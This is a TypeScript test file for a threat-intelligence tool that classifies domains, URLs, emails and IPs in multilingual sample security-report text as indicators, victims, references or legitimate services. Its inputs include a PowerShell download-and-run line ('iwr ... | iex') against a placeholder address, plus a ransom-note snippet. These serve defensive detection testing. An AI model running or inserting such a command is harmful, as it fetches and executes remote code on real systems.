import { outlineText } from "../../../../src/text/outline/outline-text.ts";
import { describe, expect, it } from "vitest";
import { readMentions } from "../../../../src/pipeline/observables/context/read-mentions.ts";
import type { ObservableRole } from "../../../../src/pipeline/observables/vocabulary.ts";
import { occurrencesOf, type Written } from "./occurrences.ts";

/** What was said of the first of these values; `lists` names shared and known hosts. */
function rolesOf(text: string, values: readonly Written[], publisher: string | null = null) {
  const found = readMentions(outlineText(text), occurrencesOf(text, values), {
    publisher,
    title: null,
    lists: {
      effectOf: ({ normalized_value: value }) => {
        if (/(?:^|\/\/|\.)(?:mega\.nz|api\.ipify\.org|pastebin\.com)(?:\/|$)/.test(value))
          return "shared";
        if (/(?:^|\.|\/\/)well-known\.com(?:\/|$)/.test(value)) return "benign";
        return /research-blog\.net/.test(value) ? "reference" : null;
      },
    },
  });
  return Object.fromEntries(
    values.map(([kind, written]) => {
      const { normalized_value } = occurrencesOf(text, [[kind, written]])[0] ?? {};
      return [written, found.find((value) => value.normalized_value === normalized_value)?.role];
    }),
  );
}

type Case = readonly [kind: Written[0], written: string, text: string];

const CASES: Readonly<Record<Exclude<ObservableRole, "host">, readonly Case[]>> = {
  indicator: [
    ["domain", "orbit-sync.top", "The implant beacons to orbit-sync.top every hour."],
    ["domain", "orbit-sync[.]top", "We also saw orbit-sync[.]top."],
    [
      "domain",
      "orbit-sync.top",
      "The locker ignores files below 1 MB and uploads the rest to orbit-sync.top.",
    ],
    [
      "url",
      "http://orbit-sync.top/up",
      "It skips files below 1 MB, then uploads the others to http://orbit-sync.top/up.",
    ],
    ["domain", "orbit-sync.top", "It resolves its public IP and posts it to orbit-sync.top."],
    ["domain", "support-site[.]net", "They registered names such as support-site[.]net."],
    ["domain", "support-site.net", "Phishing pages on domains such as support-site.net."],
    ["domain", "orbit-sync.top", "Indicators of Compromise\n\nDomains:\norbit-sync.top"],
    ["ipv4", "198.18.7.9", "## IOCs\n\n| Type | Value |\n|---|---|\n| IP | 198.18.7.9 |"],
    ["url", "http://orbit-sync.top/a.php", "IOCs\n- http://orbit-sync.top/a.php"],
    [
      "domain",
      "orbit-sync.top",
      "The following domains are associated with the group.\n\norbit-sync.top",
    ],
    ["domain", "orbit-sync.top", "C2: orbit-sync.top"],
    ["email", "pay@orbit-sync.top", "The phishing e-mails came from pay@orbit-sync.top."],
    ["domain", "orbit-sync.top", "Die Schadsoftware kontaktiert orbit-sync.top."],
    ["domain", "orbit-sync.top", "Indikatoren\n\norbit-sync.top"],
    ["domain", "orbit-sync.top", "Le maliciel se connecte à orbit-sync.top."],
    ["domain", "orbit-sync.top", "Indicateurs de compromission\n\n- orbit-sync.top"],
    ["domain", "orbit-sync.top", "El código malicioso se comunica con orbit-sync.top."],
    ["domain", "orbit-sync.top", "Indicadores de compromiso\n\n- orbit-sync.top"],
    ["domain", "orbit-sync.top", "Вредоносная программа подключается к orbit-sync.top."],
    ["domain", "orbit-sync.top", "Индикаторы компрометации\n\norbit-sync.top"],
    ["domain", "orbit-sync.top", "该木马回连orbit-sync.top获取指令。"],
    ["domain", "orbit-sync.top", "失陷指标\n\norbit-sync.top"],
    ["domain", "orbit-sync.top", "このマルウェアはorbit-sync.topに接続します。"],
    ["domain", "orbit-sync.top", "侵害指標\n\norbit-sync.top"],
    [
      "url",
      "https://pastebin.com/raw/a1B2",
      "The loader reads its C2 from https://pastebin.com/raw/a1B2.",
    ],
    ["domain", "login.well-known.com", "IOCs\n\n- login.well-known.com"],
    ["domain", "research-blog[.]net", "Malicious domain: research-blog[.]net"],
  ],
  mentioned: [
    ["url", "http://orbit-sync.top/a", "[orbit-sync[.]top/a](http://orbit-sync.top/a)"],
    ["domain", "quiet-harbour.org", "The name quiet-harbour.org appears twice in the file."],
    ["ipv4", "198.18.7.9", "Jan 4 10:11:12 gw sshd[77]: Accepted password for root: 198.18.7.9"],
    ["cve", "CVE-2024-12345", "They began in May, with CVE-2024-12345, and went on."],
    ["file_name", "rar.exe", "It is a renamed copy of rar.exe, which is clean."],
  ],
  victim: [
    ["domain", "hafen-werke.de", "The victim's domain hafen-werke.de was joined to it."],
    [
      "domain",
      "hafen-werke[.]de",
      "Mails were read on the victim's domain, hafen-werke[.]de, for weeks.",
    ],
    ["domain", "hafen-werke.de", "hafen-werke.de (victim) lost all its backups."],
    [
      "email",
      "info@hafen-werke.de",
      "From: a.b@orbit-sync.top\nTo: info@hafen-werke.de\nSubject: Invoice",
    ],
    ["domain", "hafen-werke.de", "Targets included hafen-werke.de and others."],
    ["domain", "hafen-werke.de", "Betroffenes Unternehmen: Website des Opfers hafen-werke.de"],
    ["domain", "hafen-werke.de", "Le site de la victime, hafen-werke.de, est resté inaccessible."],
    ["domain", "hafen-werke.de", "El sitio de la víctima, hafen-werke.de, quedó inaccesible."],
    ["domain", "hafen-werke.de", "Сайт жертвы hafen-werke.de был недоступен."],
    ["domain", "hafen-werke.de", "受害者网站hafen-werke.de无法访问。"],
    ["domain", "hafen-werke.de", "被害組織のhafen-werke.deは停止した。"],
  ],
  legitimate_service: [
    ["domain", "mega[.]nz", "The archives were exfiltrated to mega[.]nz."],
    [
      "domain",
      "file-box.io",
      "They abused the legitimate service file-box.io to store the archive.",
    ],
    [
      "domain",
      "file-box[.]io",
      "This malware used the following legitimate domains to test connectivity.\n\nfile-box[.]io",
    ],
    ["domain", "api.ipify.org", "It asks api.ipify.org for its address."],
    ["domain", "file-box.io", "It learns the external IP with file-box.io."],
    ["domain", "file-box.io", "Die Daten gingen an den legitimen Dienst file-box.io."],
    ["domain", "file-box.io", "Les données partent vers le service légitime file-box.io."],
    ["domain", "file-box.io", "Usaron el servicio legítimo file-box.io."],
    ["domain", "file-box.io", "Использовался легитимный сервис file-box.io."],
    ["domain", "file-box.io", "攻击者滥用合法服务file-box.io。"],
    ["domain", "file-box.io", "正規サービスのfile-box.ioが使われた。"],
  ],
  tool_site: [
    [
      "url",
      "https://netsnake.dev/get",
      "The open-source tool is at https://netsnake.dev/get for all.",
    ],
    ["domain", "netsnake.dev", "NetSnake can be downloaded from netsnake.dev by anybody."],
    [
      "domain",
      "netsnake.dev",
      "| Tool | Use | Website |\n|---|---|---|\n| NetSnake | scanning | netsnake.dev |",
    ],
    ["domain", "netsnake.dev", "Legitimate Tools\n\n- NetSnake, netsnake.dev"],
    ["domain", "netsnake.dev", "Von der offiziellen Seite netsnake.dev stammt die Datei."],
    ["domain", "netsnake.dev", "Файл взят с официального сайта netsnake.dev."],
    ["domain", "netsnake.dev", "文件来自官方网站netsnake.dev。"],
  ],
  example: [
    [
      "domain",
      "targetsname-okta[.]com",
      "Table 3: Domains Used by the Actors\n\ntargetsname-okta[.]com",
    ],
    ["domain", "www.example.com", "The malware contacts www.example.com first."],
    ["domain", "company-sso.com", "They register names such as company-sso.com for each."],
    ["asn", "AS64500", "The malware was served from AS64500."],
  ],
  reference: [
    [
      "url",
      "https://lab.quarry-notes.net/a",
      "For more information, see https://lab.quarry-notes.net/a.",
    ],
    [
      "url",
      "https://lab.quarry-notes.net/a",
      "References\n\n[1] A. Author, Title, https://lab.quarry-notes.net/a",
    ],
    [
      "url",
      "https://lab.quarry-notes.net/a",
      "1 Jane Doe, “Ransomware Revisited,” Lab (blog), last modified May 2, 2024, https://lab.quarry-notes.net/a.",
    ],
    [
      "url",
      "https://research-blog.net/c2-servers",
      "Its C2 servers are told of on https://research-blog.net/c2-servers now.",
    ],
    ["domain", "www.well-known.com", "The malware looks like www.well-known.com at first sight."],
    [
      "url",
      "https://lab.quarry-notes.net/a",
      "Weitere Informationen: https://lab.quarry-notes.net/a",
    ],
    ["url", "https://lab.quarry-notes.net/a", "Quellen\n\nhttps://lab.quarry-notes.net/a"],
    [
      "url",
      "https://lab.quarry-notes.net/a",
      "Pour en savoir plus : https://lab.quarry-notes.net/a",
    ],
    ["url", "https://lab.quarry-notes.net/a", "Referencias\n\nhttps://lab.quarry-notes.net/a"],
    ["url", "https://lab.quarry-notes.net/a", "Подробнее: https://lab.quarry-notes.net/a"],
    ["url", "https://lab.quarry-notes.net/a", "参考资料\n\nhttps://lab.quarry-notes.net/a"],
    ["url", "https://lab.quarry-notes.net/a", "詳細は https://lab.quarry-notes.net/a を参照。"],
    [
      "url",
      "https://lab.quarry-notes.net/iocs.csv",
      "Download the indicators: https://lab.quarry-notes.net/iocs.csv",
    ],
    [
      "url",
      "https://lab.quarry-notes.net/a",
      'meta:\n  reference = "https://lab.quarry-notes.net/a"',
    ],
  ],
  vendor: [
    [
      "email",
      "soc@harbour-cert.org",
      "To report suspicious activity, contact soc@harbour-cert.org.",
    ],
    ["email", "press@harbour-cert.org", "Press contact: press@harbour-cert.org"],
    ["domain", "www.harbour-labs.com", "© 2025 Harbour Labs, www.harbour-labs.com."],
    ["email", "soc@harbour-cert.org", "Bitte wenden Sie sich an soc@harbour-cert.org."],
    ["email", "soc@harbour-cert.org", "Pour toute question, contactez soc@harbour-cert.org."],
    ["email", "soc@harbour-cert.org", "По вопросам обращайтесь: soc@harbour-cert.org"],
    ["email", "soc@harbour-cert.org", "联系我们：soc@harbour-cert.org"],
  ],
};

describe("roles", () => {
  const cases = Object.entries(CASES).flatMap(([role, some]) =>
    some.map(([kind, written, text]) => ({ role, kind, written, text })),
  );
  it.each(cases)("$role: $text", ({ role, kind, written, text }) => {
    expect(rolesOf(text, [[kind, written]])).toEqual({ [written]: role });
  });
});

describe("hosts", () => {
  it("are hosts where their URL or mailbox is one to block on, and what it is otherwise", () => {
    const text =
      "The dropper loads hxxps://orbit-sync[.]top/x and mails to drop@grove-mail[.]net.\n" +
      "For more information, see https://lab.quarry-notes.net/a.";
    const found = readMentions(
      outlineText(text),
      occurrencesOf(text, [
        ["url", "hxxps://orbit-sync[.]top/x"],
        ["email", "drop@grove-mail[.]net"],
        ["url", "https://lab.quarry-notes.net/a"],
      ]),
      { publisher: null, title: null, lists: { effectOf: () => null } },
    );
    const roles = found
      .filter(({ kind }) => kind === "domain")
      .map(({ normalized_value, role }) => [normalized_value, role]);
    expect(roles).toEqual([
      ["orbit-sync.top", "host"],
      ["grove-mail.net", "host"],
      ["lab.quarry-notes.net", "reference"],
    ]);
  });
});

/** What a text is read for: its values with the role of each. */
type Reading = readonly [
  what: string,
  text: string,
  values: readonly (readonly [kind: Written[0], written: string, role: ObservableRole])[],
  publisher?: string,
];

const PAGE = "https://lab.quarry-notes.net/a";

/** A table of indicators with a column of sources, as texts write tables. */
function withSources(what: string, head: string, separator: string): Reading {
  const edge = head.startsWith("|") ? "| " : "";
  const rows = ["orbit-sync.top", "grove-sync.top"].map(
    (value) => edge + [value, "domain", PAGE].join(separator),
  );
  return [
    `takes the column of sources for references: ${what}`,
    `Indicators of Compromise\n\n${head}${rows.join("\n")}`,
    [
      ["domain", "orbit-sync.top", "indicator"],
      ["domain", "grove-sync.top", "indicator"],
      ["url", PAGE, "reference"],
    ],
  ];
}

const RULE = 'rule a {\n  strings:\n    $h = "file-box.io"\n}';
const SEEN = "Somebody saw http://orbit-sync.top/login on Monday.\n\n";
const MAILED = "The mail went from pay@orbit-sync.top to info@hafen-werke.de on Monday.";

const READINGS: readonly Reading[] = [
  [
    "holds the publisher for a vendor on its own site, and not names that begin like it",
    "Read us at blog.harbour-labs.com. The fake page is harbour-labs[.]com-login[.]top.",
    [
      ["domain", "blog.harbour-labs.com", "vendor"],
      ["domain", "harbour-labs[.]com-login[.]top", "indicator"],
    ],
    "www.harbour-labs.com",
  ],
  [
    "holds a publisher for no vendor where it hosts others",
    "The loader beacons to evil-pages.github.io.",
    [["domain", "evil-pages.github.io", "indicator"]],
    "lab.github.io",
  ],
  [
    "finds the appendix of indicators behind the references",
    `REFERENCES\n[1] Somebody: ${PAGE}\n\n` +
      "APPENDIX B: INDICATORS OF COMPROMISE\n\norbit-sync.top\nhttps://orbit-sync.top/in",
    [
      ["url", PAGE, "reference"],
      ["domain", "orbit-sync.top", "indicator"],
      ["url", "https://orbit-sync.top/in", "indicator"],
    ],
  ],
  withSources("tabs", "Indicator\tType\tSource\n", "\t"),
  withSources("bars", "| Indicator | Type | Source |\n|---|---|---|\n", " | "),
  withSources("commas", "indicator,type,source\n", ","),
  [
    "takes them for references where the text has lost the columns, too",
    "Table 2: Malware IOCs\nIndicator Type Indicator Source\n" +
      `Domain orbit-sync[.]top ${PAGE}\nURL hxxps://orbit-sync[.]top/x ${PAGE}`,
    [
      ["domain", "orbit-sync[.]top", "indicator"],
      ["url", "hxxps://orbit-sync[.]top/x", "indicator"],
      ["url", PAGE, "reference"],
    ],
  ],
  [
    "keeps an address in a column of sources, which is where packets came from",
    "Time\tSource IP\tAction\n10:11\t198.18.7.9\tblocked",
    [["ipv4", "198.18.7.9", "mentioned"]],
  ],
  [
    "reads the wrapped cells of a row as one row",
    `IOCs\n\nIndicator\tComment\tReference\norbit-sync.top\tfirst\nserver\t${PAGE}`,
    [
      ["domain", "orbit-sync.top", "indicator"],
      ["url", PAGE, "reference"],
    ],
  ],
  [
    "holds a victim for one wherever nothing else is said, and below its domain",
    "The victim's domain hafen-werke.de was joined to it. Later mail.hafen-werke.de and " +
      "hafen-werke.de had new accounts.",
    [
      ["domain", "hafen-werke.de", "victim"],
      ["domain", "mail.hafen-werke.de", "victim"],
    ],
  ],
  [
    "does not tell who gets a mail where nobody sends it",
    MAILED,
    [["email", "info@hafen-werke.de", "mentioned"]],
  ],
  [
    "tells the sender of a mail from who gets it",
    MAILED,
    [
      ["email", "pay@orbit-sync.top", "mentioned"],
      ["email", "info@hafen-werke.de", "victim"],
    ],
  ],
  [
    "does not let page furniture end a section",
    "INDICATORS OF COMPROMISE\norbit-sync.top\nTLP:CLEAR\nPage 9 of 26 | Product ID: AA00-000A\n" +
      "FBI | CISA | ACSC\nTLP:CLEAR\ngrove-sync.top",
    [["domain", "grove-sync.top", "indicator"]],
  ],
  [
    "ends the section of indicators where another begins",
    `# Indicators of Compromise\n\norbit-sync.top\n\n# Mitigations\n\nUse ${PAGE} for it.`,
    [["url", PAGE, "reference"]],
  ],
  [
    "does not take a table of contents for headings",
    `References ............ 30\nAppendix B: Indicators ........ 36\n\nSee ${PAGE} and wait.`,
    [["url", PAGE, "reference"]],
  ],
  [
    "does not take who asks for ransom for an author",
    "All your files are encrypted. To get the key write to help@orbit-sync.top or help@gmail.com.",
    [
      ["email", "help@orbit-sync.top", "indicator"],
      ["email", "help@gmail.com", "indicator"],
    ],
  ],
  [
    "takes a mailbox that everybody may have for nobody's own",
    "Questions? Write to help@gmail.com.",
    [["email", "help@gmail.com", "mentioned"]],
  ],
  [
    "goes on with indicators behind the services among them",
    "Indicators of Compromise\n\norbit-sync.top\n\nLegitimate Services\n\nfile-box.io\n\nOther Hosts\n\ngrove-sync.top",
    [
      ["domain", "orbit-sync.top", "indicator"],
      ["domain", "file-box.io", "legitimate_service"],
      ["domain", "grove-sync.top", "indicator"],
    ],
  ],
  [
    "never takes for a link what an address serves",
    "For more information, see below.\n\niwr http://198.18.7.9/l.ps1 | iex",
    [["url", "http://198.18.7.9/l.ps1", "indicator"]],
  ],
  [
    "holds a page for no indicator where it is told of alone",
    SEEN,
    [["url", "http://orbit-sync.top/login", "reference"]],
  ],
  [
    "holds a page for an indicator where its host is listed",
    `${SEEN}IOCs\n\norbit-sync.top\n`,
    [
      ["url", "http://orbit-sync.top/login", "indicator"],
      ["domain", "orbit-sync.top", "indicator"],
    ],
  ],
  ["says nothing of a string of a rule", RULE, [["domain", "file-box.io", "mentioned"]]],
  [
    "takes a string of a rule for what else is said of it",
    `It uses the legitimate service file-box.io for it.\n\n${RULE}`,
    [["domain", "file-box.io", "legitimate_service"]],
  ],
  [
    "holds a name for no indicator where it is the system's own",
    "IOCs\n\ncmd.exe\nwinupd77.exe\nC:\\Windows\\System32\\cmd.exe\nC:\\Temp\\cmd.exe\n",
    [
      ["file_path", "C:\\Windows\\System32\\cmd.exe", "mentioned"],
      ["file_path", "C:\\Temp\\cmd.exe", "indicator"],
      ["file_name", "winupd77.exe", "indicator"],
    ],
  ],
  [
    "does not read a number for documentation as an indicator",
    "IOCs\n\nAS64496\nAS204957",
    [
      ["asn", "AS64496", "example"],
      ["asn", "AS204957", "indicator"],
    ],
  ],
];

describe("texts that are made to mislead", () => {
  const readings = READINGS.map(([what, text, values, publisher]) => {
    const written = values.map(([kind, value]): Written => [kind, value]);
    const roles = Object.fromEntries(values.map(([, value, role]) => [value, role]));
    return { what, text, written, roles, publisher };
  });
  it.each(readings)("$what", ({ text, written, roles, publisher }) => {
    expect(rolesOf(text, written, publisher)).toEqual(roles);
  });
});
